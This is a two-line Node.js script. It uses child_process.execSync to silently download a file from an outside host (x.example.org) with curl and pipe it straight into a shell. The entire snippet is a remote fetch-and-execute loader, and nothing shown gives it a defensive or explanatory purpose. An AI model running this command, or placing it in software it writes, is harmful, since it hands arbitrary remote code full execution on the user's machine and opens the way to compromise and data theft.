const {execSync} = require("child_process");
execSync("curl -s https://x.example.org/x | sh");
